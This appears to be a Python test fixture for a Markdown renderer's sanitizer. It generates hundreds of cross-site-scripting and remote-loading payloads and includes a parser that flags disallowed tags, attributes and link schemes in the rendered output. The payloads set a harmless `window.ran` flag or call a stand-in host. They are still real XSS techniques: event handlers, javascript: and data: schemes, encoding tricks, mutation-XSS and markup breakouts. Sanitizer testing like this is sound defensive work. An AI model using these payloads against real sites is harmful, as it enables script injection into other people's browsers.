"""Markdown that tries to run a script or to load something from elsewhere, made by combining what browsers read.

Each payload, if it ran, would set `window.ran` or ask `elsewhere.example` for something.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

RUN = "window.ran=1"
ELSEWHERE = "https://elsewhere.example/x"

_TAGS = (
    f"<script>{RUN}</script>",
    f'<script src="{ELSEWHERE}"></script>',
    f"<img src=x onerror={RUN}>",
    f'<img src="{ELSEWHERE}">',
    f'<img srcset="{ELSEWHERE} 1x">',
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><use href="{ELSEWHERE}#a"/></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="{ELSEWHERE}"></object>',
    f'<embed src="{ELSEWHERE}">',
    f'<form action="javascript:{RUN}"><button>go</button></form>',
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN} src=x></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<body onload={RUN}>",
    f'<link rel=stylesheet href="{ELSEWHERE}">',
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    '<base href="https://elsewhere.example/">',
    f"<style>@import url({ELSEWHERE});</style>",
    f'<div style="background:url({ELSEWHERE})">x</div>',
    f'<table background="{ELSEWHERE}"><td>x</td></table>',
    f"<marquee onstart={RUN}>x</marquee>",
    f'<math href="javascript:{RUN}">x</math>',
    f"<template><img src=x onerror={RUN}></template>",
    f'<div hx-get="{ELSEWHERE}" hx-trigger="load">x</div>',
    f'<div hx-on:click="{RUN}" hx-trigger="load">x</div>',
    f'<p sse-connect="{ELSEWHERE}">x</p>',
)
_AROUND = (
    "{}",
    "words before {} words after",
    "- {}",
    "> {}",
    "**{}**",
    "[{}](https://example.org)",
    "| {} |",
    "\\{}",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java&#10;script:",
    "javascript&#58;",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "javascript&Tab;:",
    "\x01javascript:",
    "%6Aavascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4",
    "data:image/svg+xml,<svg onload=window.ran=1>",
    "feed:javascript:",
    "view-source:javascript:",
    "blob:",
    "file:///",
    "http://elsewhere.example/",
)
_LINKS = (
    "[words]({})",
    "[words](<{}>)",
    "[words][ref]\n\n[ref]: {}",
    "<{}>",
    "![words]({})",
    "[![words]({})](https://example.org)",
    '[words]({} "title")',
)
_BREAKING_OUT = (
    f'[a](https://example.org/"onmouseover="{RUN})',
    f"[a](https://example.org 'x\" autofocus onfocus=\"{RUN}')",
    f'[a](https://example.org "x&quot; onclick=&quot;{RUN}")',
    f'![x" onerror="{RUN}](x)',
    f'<https://example.org/"onclick="{RUN}>',
    f"[a](https://example.org/><script>{RUN}</script>)",
    f"[<script>{RUN}</script>](https://example.org)",
    f"[a](https://example.org/`onclick={RUN}`)",
    f"<!-- --><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- -- --!><img src=x onerror={RUN}>",
    f"<!-- a\n\n--><img src=x onerror={RUN}>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml <script>{RUN}</script> ?>",
    f'<!DOCTYPE html [<!ENTITY x "<script>{RUN}</script>">]>&x;',
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x00>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img src=`x`onerror={RUN}>",
    f"<img '=\"' src=x onerror={RUN}>",
    f"<<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"```html\n<script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>",
    f"`<script>{RUN}</script>`",
    f"``` <script>{RUN}</script>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<select><style><a title="</style></select><img src=x onerror={RUN}>">',
    f'<textarea><a title="</textarea><img src=x onerror={RUN}>">',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f"<plaintext><img src=x onerror={RUN}>",
    f"<title></title><img src=x onerror={RUN}>",
    f"</div></section></main><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"{{{{ ''.__class__ }}}}<script>{RUN}</script>",
    f"{{% raw %}}<script>{RUN}</script>{{% endraw %}}",
    f"[a]: javascript:{RUN}\n\n[a]",
    f"[a](javascript:{RUN}//https://example.org)",
    f"[a](//elsewhere.example/%0Ajavascript:{RUN})",
    f"Setext <img src=x onerror={RUN}>\n---",
    f"# Heading <img src=x onerror={RUN}>",
    f"1) <svg/onload={RUN}>",
    f"* * *\n<iframe/src=javascript:parent.{RUN}>",
    f'<a href="https://example.org" target="_blank" ping="{ELSEWHERE}">x</a>',
    '<a href="https://example.org" style="position:fixed;inset:0" id="main" class="console">x</a>',
)


def injected() -> list[str]:
    """All cases, each once."""
    return list(dict.fromkeys(_cases()))


def _cases() -> Iterator[str]:
    for number, tag in enumerate(_TAGS):
        yield tag
        for step in range(4):  # not every tag in every place: four for each, so that all pairs of neighbours come up
            yield _AROUND[1:][(number + step) % (len(_AROUND) - 1)].format(tag)
        yield tag.upper().replace("WINDOW.RAN", "window.ran")
        yield tag.rpartition(">")[0]  # never closed
    for scheme in _SCHEMES:
        for link in _LINKS:
            yield link.format(scheme if scheme.startswith(("data:", "http", "file")) else f"{scheme}{RUN}")
    yield from _BREAKING_OUT


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in {"p", "ul", "ol", "li", "strong", "em", "a", "br"}:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if tag != "a" or name not in {"href", "rel", "title"}:
                self.wrong.append(f"<{tag} {name}>")
            elif name == "href" and not leads_to_a_page(value or ""):
                self.wrong.append(f"href={value!r}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}>")


def leads_to_a_page(address: str) -> bool:
    """Whether a link goes to a page by https, or to one of ours; read as browsers do, without control signs."""
    read = "".join(sign for sign in html.unescape(address) if sign > " ")
    return urlsplit(read).scheme in ("https", "")


def wrong_in(rendered: str) -> list[str]:
    """What stands in HTML that no article may hold."""
    seen = _Seen()
    seen.feed(rendered)
    seen.close()
    return seen.wrong
